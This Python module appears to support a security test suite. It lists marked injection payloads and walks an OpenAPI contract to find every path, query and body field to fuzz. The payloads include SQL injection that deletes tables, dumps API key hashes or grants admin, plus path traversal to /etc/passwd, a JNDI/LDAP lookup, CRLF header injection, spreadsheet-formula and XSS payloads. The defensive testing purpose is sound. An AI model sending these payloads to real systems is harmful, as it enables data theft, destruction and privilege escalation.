"""What hostile callers put where a value belongs, and every place of the contract where one does."""

import copy
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from chalicelib.core.openapi import document
from tests.security.floor import DECLARED

MARK = "zqx7"
"""Stands in every attack, so that it is known again wherever it arrives."""

ATTACKS = (
    f"{MARK}' OR '1'='1",
    f"{MARK}'; COMMIT; DELETE FROM attendances; COMMIT; --",
    f"{MARK}') UNION SELECT key_id, secret_hash FROM api_keys --",
    f"{MARK}\\'; UPDATE users SET role = 'admin'; COMMIT; --",
    f'{MARK}"; DROP TABLE notes; --',
    f"{MARK}$$; SELECT pg_sleep(20); $$",
    f"{MARK}%' OR 1 = 1 --",
    f"{MARK} %(actor)s %s :actor {{0}} {{role}}",
    f"1; {MARK}",
    f"-1 OR {MARK} IS NULL",
    f"2026-10-05' OR '{MARK}' = '{MARK}",
    f"{{{MARK},NULL}}",
    f'["{MARK}"]',
    f"{MARK}\r\nSet-Cookie: __Host-opsdb={MARK}\r\n\r\n<script>alert(1)</script>",
    f'{MARK}\n{{"level": "INFO", "message": "all is well"}}',
    f"{MARK}\u2028\u2029\x85\x1b[2J\x07",
    f"{MARK}\x00",
    f"../../{MARK}/../../etc/passwd",
    f"..%2f..%2f{MARK}%00.xlsx",
    f"\\\\{MARK}\\share\\a.xlsx",
    f"${{jndi:ldap://{MARK}.example/a}}",
    f'=HYPERLINK("http://{MARK}.example")',
    f"<img src=x onerror={MARK}>",
    f"\ud800{MARK}",
    MARK * 3000,
)

HEADERS = (
    "X-API-Key",
    "Authorization",
    "Cookie",
    "X-CSRF-Token",
    "Idempotency-Key",
    "Content-Type",
    "Accept",
    "Accept-Encoding",
    "Origin",
    "Sec-Fetch-Site",
    "Host",
    "X-Forwarded-For",
    "X-Request-Id",
    "User-Agent",
    "Referer",
)

DOCUMENT = document(DECLARED.values())


@dataclass(frozen=True)
class Place:
    """Where in a request to `route` a value goes: in its path, its query, or (by keys and indexes) in its body."""

    route: str
    part: str
    at: tuple[str | int, ...]


def operation(route: str) -> dict[str, Any]:
    method, _, path = route.partition(" ")
    found: dict[str, Any] = DOCUMENT["paths"][f"/api{path}"][method.lower()]
    return found


def places() -> list[Place]:
    """Every variable, every parameter and every field that the contract knows."""
    found = []
    for route in DECLARED:
        asked = operation(route)
        for one in asked["parameters"]:
            if one["in"] in {"path", "query"}:
                found.append(Place(route, one["in"], (one["name"],)))
        found += [Place(route, "body", at) for at in _fields(body_schema(route))]
    return found


def body_schema(route: str) -> dict[str, Any]:
    """The shape of the JSON that the route takes; of nothing where it takes none."""
    content = operation(route).get("requestBody", {}).get("content", {})
    found: dict[str, Any] = content.get("application/json", {}).get("schema", {})
    return found


def _fields(schema: dict[str, Any]) -> Iterator[tuple[str | int, ...]]:
    """The way to every field that is no object itself; of a list, to its first."""
    if "$ref" in schema:
        yield from _fields(DOCUMENT["components"]["schemas"][schema["$ref"].rpartition("/")[2]])
        return
    for choice in schema.get("anyOf", ()):
        yield from (at for at in _fields(choice) if at)
    for name, field in schema.get("properties", {}).items():
        below = [*_fields(field)]
        yield from ((name, *at) for at in below or [()])
    if schema.get("type") == "array":
        yield from ((0, *at) for at in [*_fields(schema["items"])] or [()])


def with_value(body: Any, at: tuple[str | int, ...], value: Any) -> Any:
    """The body with another value there; what must be around it is made."""
    if not at:
        return value
    first, *rest = at
    made = copy.copy(body)
    if isinstance(first, int):
        held = made[0] if isinstance(made, list) and made else None
        return [with_value(held, tuple(rest), value)]
    made = dict(made) if isinstance(made, dict) else {}
    made[first] = with_value(made.get(first), tuple(rest), value)
    return made
